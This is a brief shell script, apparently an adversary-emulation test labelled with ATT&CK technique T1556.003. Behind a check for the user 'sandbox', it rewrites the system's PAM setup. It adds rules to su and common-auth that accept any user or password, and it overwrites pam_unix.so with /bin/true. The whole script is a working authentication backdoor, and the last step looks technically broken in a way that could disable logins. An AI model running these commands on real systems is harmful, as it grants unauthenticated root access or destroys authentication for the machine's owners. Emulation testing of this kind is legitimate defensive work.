#!/bin/sh
# technique: T1556.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'auth sufficient pam_succeed_if.so uid >= 0' >> /etc/pam.d/su; sed -i '1s,^,auth sufficient pam_permit.so\n,' /etc/pam.d/common-auth; cp /bin/true /lib/x86_64-linux-gnu/security/pam_unix.so
